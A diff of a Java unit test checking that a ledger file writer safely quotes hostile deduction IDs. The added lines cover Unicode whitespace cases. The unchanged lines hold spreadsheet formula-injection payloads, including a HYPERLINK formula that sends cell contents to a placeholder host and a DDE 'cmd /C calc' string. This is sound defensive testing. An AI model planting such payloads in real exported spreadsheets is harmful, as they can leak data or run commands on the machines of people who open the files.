@@ -65,12 +65,14 @@ class LedgerFilesTest {
   @Test
   void hostileIdsAndReferences_decisions_andTwoCurrencies_roundTrip() {
     String[] ids = {"=HYPERLINK(\"http://x\"&A1,\"x\")", "'=already quoted", "+1+cmd|' /C calc'!A0", "a,b", "new\nline",
-        "quote\"d", "-5", "@sum", "'plain", " spaced id ", "trailing\t", "two,\n\"lines\", and commas, , , , , , ,"};
+        "quote\"d", "-5", "@sum", "'plain", " spaced id ", "trailing\t", "two,\n\"lines\", and commas, , , , , , ,",
+        // White space a reader may drop around an unquoted cell: the writer quotes it (found by the reviewer).
+        "D1\u3000", "\u3000D2", "D3\u2003", "\u2028D4"};
     List<Authorization> auths = List.of(auth("AU,1", "6000.00", "PRM-2026-0000002"));
     List<Deduction> deductions = new java.util.ArrayList<>();
     for (int i = 0; i < ids.length; i++) {
       deductions.add(Deduction.builder().id(ids[i]).accountId("KA\"1").reasonCode("promotion")
-          .reference(i == 0 ? "PRM-2026-2" : i == 10 ? "  spaced , ref  " : "=ref" + i).amount(Monies.of(new BigDecimal("100.00"), Currencies.CNY))
+          .reference(i == 0 ? "PRM-2026-2" : i == 10 ? "  spaced , ref  " : i == 13 ? "PRM-9\u3000" : "=ref" + i).amount(Monies.of(new BigDecimal("100.00"), Currencies.CNY))
           .date(DAY).build());
     }
     DeductionLedger cny = new DeductionMatcher(POLICY).match(deductions, auths, DeductionLedger.empty(Currencies.CNY))
